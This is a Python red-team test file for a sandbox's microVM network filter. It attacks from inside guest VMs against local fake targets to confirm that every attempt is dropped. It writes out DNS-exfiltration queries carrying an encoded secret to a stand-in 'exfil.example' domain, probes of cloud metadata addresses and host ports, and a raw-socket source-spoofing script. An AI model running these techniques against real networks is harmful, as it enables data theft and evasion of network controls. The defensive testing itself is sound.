"""Red team D25-D30 (network) on microVMs: attacked from inside real guests (the real agent, the
python:3.11 image) with a network policy, through the edge. The guest's root owns the guest's
network stack (raw sockets, IPv6, any address or MAC), so everything rests on the filter at the
tap in the sandbox's namespace; a refused packet is dropped there, so a refusal shows as a
timeout (not EPERM as in a container). Targets never leave this machine: the fake internet,
host-side listeners and the fake resolver of test_netpolicy_targets. Each attack has a twin
where the same attempt succeeds because the policy allows it, so a test that can not fail shows
up. The per-rule proofs (each rule of the filter removed in turn lets its attack through) are
in tests/integration/test_microvm_net_tap.py; the container runs in test_container_network.py.

One boot (D25/D26) runs in the default tier; the rest are behind ``microvm_slow``."""
from __future__ import annotations

import asyncio
import json
import time

import pytest

from rollbox.models import ExecSpec, NetworkPolicy, SandboxSpec
from rollbox.netpolicy import link
from tests.conftest import needs_python
from tests.integration.test_microvm_net_tap import PING, PROBE, HostListener6, host_link_local
from tests.integration.test_netpolicy_targets import (  # noqa: F401 - fixtures
    DNS_CLIENT,
    FakeInternet,
    FakeUpstream,
    internet,
    upstream,
)
from tests.redteam.conftest import PY, Boxes, needs_root
from tests.redteam.test_container_network import HOLD, HostListener

pytestmark = [needs_root, needs_python]
A, AAAA, TXT, ANY = 1, 28, 16, 255


@pytest.fixture
async def vms(edge) -> Boxes:  # noqa: ANN001
    """Red-team boxes that are microVMs (this file's attacks are the tap's)."""
    if not (await edge.capacity())["backends"].get("microvm", {}).get("offered"):
        pytest.skip("this node offers no microVMs (make native guest)")
    try:
        SandboxSpec(image=PY, backend="microvm")
    except ValueError:
        pytest.skip("no microvm backend in this build")
    return Boxes(edge, asyncio.Lock(), "microvm")


async def out(vms: Boxes, sid: str, code: str, *args: str) -> str:
    r = await vms.run(sid, ["python3", "-c", code, *args], timeout_s=60)
    return (r.stdout + r.stderr).strip()


async def probe(vms: Boxes, sid: str, *specs: tuple[str, str, int]) -> list[str]:
    got = await out(vms, sid, PROBE, json.dumps(specs))
    return json.loads(got.splitlines()[-1])


async def netvm(vms: Boxes, internet: FakeInternet, rules: list[str]) -> str:  # noqa: F811
    # The guest's root with every capability (raw sockets, its own routes): the filter at the
    # tap is the layer under test, on its own.
    sid = await vms.make(PY, network=rules, hardened=False)
    internet.route_from(sid)
    return sid


def reached(internet: FakeInternet, ip: str, port: int) -> bool:  # noqa: F811
    return any(line.startswith(f"tcp {ip}:{port} ") for line in internet.log())


def dns(gate: str) -> str:
    return DNS_CLIENT.replace("open('/etc/resolv.conf').read().split()[1]", repr(gate))


# ---- D25 + D26 (default tier: one boot) ---------------------------------------------------
async def test_d25_d26_direct_ip_and_dns_exfiltration(vms: Boxes, internet: FakeInternet,  # noqa: F811
                                                      upstream: FakeUpstream) -> None:  # noqa: F811
    named, direct = internet.ips[0], internet.ips[1]
    sid = await netvm(vms, internet, ["allowed.example:8080"])
    lnk = link.find(sid)
    assert lnk is not None
    # The guest's resolver is the gate (written through the agent at create).
    r = await vms.run(sid, ["cat", "/etc/resolv.conf"])
    assert r.stdout.split()[:2] == ["nameserver", lnk.gate_ip], r
    # D25: the name's address before any lookup, another address on the name's port, UDP.
    assert await probe(vms, sid, ("tcp", named, 8080), ("tcp", direct, 8080),
                       ("udp", direct, 8080)) == ["timeout"] * 3
    # D26: names that are not allowed, whatever the type or transport, and a sub-domain.
    secret = "c2VjcmV0LWFuc3dlcg"
    queries = [[f"{secret}.exfil.example", A, False], [f"{secret}.exfil.example", TXT, True],
               [f"{secret}.exfil.example", AAAA, False], [f"{secret}.exfil.example", ANY, False],
               [f"{secret}.allowed.example", A, False]]
    got = json.loads(await out(vms, sid, dns(lnk.gate_ip), json.dumps(queries)))
    assert set(got.values()) == {"rcode 5 answers 0"}, got
    # Around the gate: straight to other resolvers, UDP and TCP (the guest's root could).
    assert await probe(vms, sid, ("udp", "8.8.8.8", 53), ("tcp", "1.1.1.1", 53),
                       ("udp", internet.ips[2], 53), ("tcp", internet.host_ip, 53)
                       ) == ["timeout"] * 4
    # Twin: the allowed name resolves (upstream asked for it alone) and opens its address.
    ok = json.loads(await out(vms, sid, dns(lnk.gate_ip),
                              json.dumps([["allowed.example", A, True]])))
    assert list(ok.values()) == ["rcode 0 answers 1"], ok
    assert upstream.log == [("tcp", "A", "allowed.example")] or upstream.names() == [
        "allowed.example"], upstream.log
    assert secret not in str(upstream.log) and "exfil" not in str(upstream.log)
    assert await probe(vms, sid, ("tcp", named, 8080), ("tcp", direct, 8080)) == [
        "ok hi", "timeout"]
    assert reached(internet, named, 8080) and not reached(internet, direct, 8080)
    # The audit trail (drop counters read off the edge's loop: they lag by one read).
    deadline = time.monotonic() + 10
    while True:
        info = await vms.edge.get(sid)
        assert info.audit is not None and info.audit.dns_refused == len(queries), info.audit
        if info.audit.connect_denied >= 3 or time.monotonic() > deadline:
            break
        await asyncio.sleep(0.2)
    assert info.audit.connect_denied >= 3, info.audit


# ---- D27: host loopback, metadata, the platform's ports, other host addresses --------------
@pytest.mark.microvm_slow
async def test_d27_host_services_metadata_platform(vms: Boxes, internet: FakeInternet,  # noqa: F811
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    loop_only = HostListener("127.0.0.1")
    wildcard = HostListener("0.0.0.0")
    platform = HostListener("0.0.0.0")  # stands for the api port
    mirror = HostListener("127.0.0.1")  # stands for the PyPI mirror
    try:
        monkeypatch.setattr(vms.edge.settings, "platform_ports", (platform.port,))
        vms.edge.settings.mirrors = {"pypi": f"http://127.0.0.1:{mirror.port}/simple/"}
        broad = [f"0.0.0.0/0:{p}" for p in (loop_only.port, wildcard.port, platform.port, 80)]
        sid = await netvm(vms, internet, broad + ["pypi"])
        lnk = link.find(sid)
        assert lnk is not None
        gate = lnk.gate_ip
        got = await probe(vms, sid,
                          ("tcp", gate, loop_only.port), ("tcp", "169.254.169.254", 80),
                          ("tcp", "169.254.170.2", 80), ("tcp", gate, platform.port),
                          ("tcp", internet.host_ip, platform.port), ("tcp", gate, wildcard.port),
                          ("tcp", internet.host_ip, wildcard.port),
                          ("tcp", internet.host_ip, mirror.port), ("udp", gate, mirror.port),
                          ("tcp", gate, mirror.port), ("tcp", internet.ips[0], 80))
        assert got == ["timeout"] * 9 + ["ok hi", "ok hi"], got  # twins: mirror, outside:80
        # The guest's own loopback is its own, not the host's.
        assert (await probe(vms, sid, ("tcp", "127.0.0.1", loop_only.port)))[0].startswith(
            "err 111")
        env = (await vms.run(sid, ["sh", "-c", "echo $PIP_INDEX_URL"])).stdout.strip()
        assert env == f"http://{gate}:{mirror.port}/simple/"
        assert platform.conns == 0 and wildcard.conns == 0 and loop_only.conns == 0
    finally:
        for h in (loop_only, wildcard, platform, mirror):
            h.close()


# ---- D28: other sandboxes ------------------------------------------------------------------
LISTEN = """
import socket
s = socket.create_server(('0.0.0.0', 9999))
while True:
    c, _ = s.accept(); c.sendall(c.recv(10)); c.close()
"""


@pytest.mark.microvm_slow
async def test_d28_other_sandboxes(vms: Boxes, internet: FakeInternet) -> None:  # noqa: F811
    rules = ["0.0.0.0/0:9999", "0.0.0.0/0:9999/udp"]
    a = await netvm(vms, internet, rules)
    b = await netvm(vms, internet, rules)
    lb = link.find(b)
    assert lb is not None
    await vms.edge.exec_start(b, ExecSpec(cmd=["python3", "-c", LISTEN], background=True,
                                          timeout_s=120))
    deadline = time.monotonic() + 20
    while (await probe(vms, b, ("tcp", "127.0.0.1", 9999))) != ["ok hi"]:  # twin: it answers
        assert time.monotonic() < deadline, "the listener in b never came up"
        await asyncio.sleep(0.5)
    got = await probe(vms, a, ("tcp", lb.sandbox_ip, 9999), ("udp", lb.sandbox_ip, 9999),
                      ("tcp", lb.gate_ip, 9999))
    assert got == ["timeout"] * 3, got
    # A microVM without a policy has no network device at all.
    c = await vms.make(PY)
    r = await vms.run(c, ["python3", "-c", "import socket; print(socket.if_nameindex())"])
    assert r.stdout.strip() == "[(1, 'lo')]", r


# ---- D29: a connection opened during setup, kept after the phase closes it ----------------
async def until_line(vms: Boxes, sid: str, eid: str, line: str) -> None:
    """Until the command printed ``line`` (a guest's Python starts slowly under TCG)."""
    seen = b""
    async for item in vms.edge.exec_stream(sid, eid):
        if item.kind == "stdout":
            seen += item.data
            if line.encode() + b"\n" in seen:
                return
        elif item.kind == "exit":
            raise AssertionError(f"ended before {line!r}: {item.result}")


@pytest.mark.microvm_slow
async def test_d29_setup_connection_cut(vms: Boxes, internet: FakeInternet) -> None:  # noqa: F811
    target = internet.ips[3]
    setup = [f"{target}:8080", f"{target}:8080/udp"]
    sid = await netvm(vms, internet, setup)
    for keep in (True, False):  # keep=True is the twin: the phase change leaves the rule
        eid = await vms.edge.exec_start(sid, ExecSpec(
            cmd=["python3", "-c", HOLD, target, "5", "4"], timeout_s=90))
        await asyncio.wait_for(until_line(vms, sid, eid, "open"), 60)
        await asyncio.sleep(1.0)  # the connections echo
        t0 = time.monotonic()
        await vms.edge.set_network(sid, NetworkPolicy(allow=setup if keep else []))
        assert time.monotonic() - t0 < 1.0
        res = await vms.edge.exec_wait(sid, eid)
        assert ("alive" if keep else "cut") in res.stdout, (res, res.stderr)
    assert await probe(vms, sid, ("tcp", target, 8080)) == ["timeout"]


# ---- D30: IPv6, ICMP, UDP/QUIC around a TCP-only rule, spoofing, with the guest's root -----
SPOOF = r"""
import socket, struct, sys
# A raw IPv4/UDP packet with another source address (the guest's root can send it).
ip, port, src = sys.argv[1], int(sys.argv[2]), sys.argv[3]
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
payload = b'spoofed!'
u = struct.pack('!HHHH', 4000, port, 8 + len(payload), 0) + payload
h = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(u), 1, 0, 64, 17, 0,
                socket.inet_aton(src), socket.inet_aton(ip))
s.sendto(h + u, (ip, 0))
print('sent')
"""


@pytest.mark.microvm_slow
async def test_d30_ipv6_icmp_udp_spoof(vms: Boxes, internet: FakeInternet) -> None:  # noqa: F811
    v6 = HostListener6()
    try:
        ip = internet.ips[0]
        sid = await netvm(vms, internet, [f"0.0.0.0/0:{v6.port}", f"{ip}:443",
                                          f"{ip}:8080/udp"])
        lnk = link.find(sid)
        assert lnk is not None
        lla = host_link_local(lnk.host_if)
        got = await probe(vms, sid, ("tcp", f"{lla}%eth0", v6.port), ("tcp", "2001:db8::1", 443),
                          ("udp", ip, 443), ("tcp", ip, 8080), ("tcp", ip, 443),
                          ("udp", ip, 8080))
        # IPv6 fails at once or times out (no route, or dropped at the tap); never reaches.
        assert all(g != "ok hi" for g in got[:4]), got
        assert got[4:] == ["ok hi", "ok hi"], got  # twins: the rules' own protocols
        assert v6.conns == 0
        # ICMP with the guest's root (raw socket): no echo reply.
        assert await out(vms, sid, PING, ip) == "no reply"
        # A spoofed source address on the UDP rule's own port and address: dropped.
        marker_before = len(internet.log())
        assert await out(vms, sid, SPOOF, ip, "8080", "192.0.2.77") == "sent"
        await asyncio.sleep(1.0)
        assert not any("192.0.2.77" in line for line in internet.log()[marker_before:])
    finally:
        v6.close()
